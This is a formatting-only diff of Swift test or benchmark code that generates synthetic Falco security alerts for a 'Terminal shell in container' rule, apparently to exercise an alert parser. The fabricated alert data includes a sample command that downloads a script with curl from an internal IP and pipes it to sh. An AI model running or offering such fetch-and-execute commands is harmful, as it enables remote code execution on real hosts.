@@ -14,7 +14,7 @@ enum Alerts {
         let builder = AlertBatchBuilder(byteCapacity: 2 << 20, recordCapacity: count)
         let parser = unsafe cjson_parser_create()
         defer { unsafe cjson_parser_destroy(parser) }
-        for number in 0..<count {
+        for number in 0 ..< count {
             let json = json(number)
             switch form {
             case .json: _ = unsafe cjson_scan_alert(parser, builder.raw, json, json.count, 1)
@@ -31,7 +31,9 @@ enum Alerts {
             content: .alerts(batch), fates: [], firstOutput: 1, outputCount: count)
     }
 
-    static func command(_ number: Int) -> String { "bash -c curl -s http://10.0.0.\(number % 250):8080/install.sh | sh" }
+    static func command(_ number: Int) -> String {
+        "bash -c curl -s http://10.0.0.\(number % 250):8080/install.sh | sh"
+    }
 
     static func output(_ number: Int) -> String {
         "20:26:40.\(100_000_000 + number): Notice A shell was spawned in a container with an attached terminal (user=root "
@@ -43,8 +45,10 @@ enum Alerts {
             ("container.id", "3ad7b26ded6d", true), ("container.image.repository", "registry.example/shop/web", true),
             ("container.name", "web-\(number % 40)", true), ("evt.type", "execve", true), ("k8s.ns.name", "<NA>", true),
             ("k8s.pod.name", "web-7c9d8b5f6d-x2x\(number % 40)", true), ("proc.cmdline", command(number), true),
-            ("proc.exepath", "/usr/bin/bash", true), ("proc.name", "bash", true), ("proc.pid", "\(4000 + number)", false),
-            ("proc.pname", "runc", true), ("proc.tty", "34816", false), ("user.loginuid", "-1", false), ("user.name", "root", true),
+            ("proc.exepath", "/usr/bin/bash", true), ("proc.name", "bash", true),
+            ("proc.pid", "\(4000 + number)", false),
+            ("proc.pname", "runc", true), ("proc.tty", "34816", false), ("user.loginuid", "-1", false),
+            ("user.name", "root", true),
             ("user.uid", "0", false),
         ]
     }
@@ -56,7 +60,8 @@ enum Alerts {
         let tags = tags.map { "\"\($0)\"" }.joined(separator: ",")
         let text =
             "{\"hostname\":\"node-\(number % 8)\",\"output\":\"\(output(number))\",\"output_fields\":{\"evt.time\":1780000000\(100_000_000 + number),"
-            + fields.joined(separator: ",") + "},\"priority\":\"Notice\",\"rule\":\"Terminal shell in container\",\"source\":"
+            + fields.joined(separator: ",")
+            + "},\"priority\":\"Notice\",\"rule\":\"Terminal shell in container\",\"source\":"
             + "\"syscall\",\"tags\":[\(tags)],\"time\":\"2026-05-28T20:26:40.\(100_000_000 + number)Z\"}"
         return [UInt8](text.utf8)
     }
@@ -71,7 +76,10 @@ enum Alerts {
         add(4, [UInt8]("Terminal shell in container".utf8), to: &message)
         add(5, output, to: &message)
         // Falco's map comes in the order of a hash.
-        let fields = fields(number).sorted { ($0.key.utf8.reduce(number) { ($0 &* 31) ^ Int($1) }) < ($1.key.utf8.reduce(number) { ($0 &* 31) ^ Int($1) }) }
+        let fields = fields(number).sorted {
+            ($0.key.utf8.reduce(number) { ($0 &* 31) ^ Int($1) })
+                < ($1.key.utf8.reduce(number) { ($0 &* 31) ^ Int($1) })
+        }
         for field in fields {
             var entry: [UInt8] = []
             add(1, [UInt8](field.key.utf8), to: &entry)
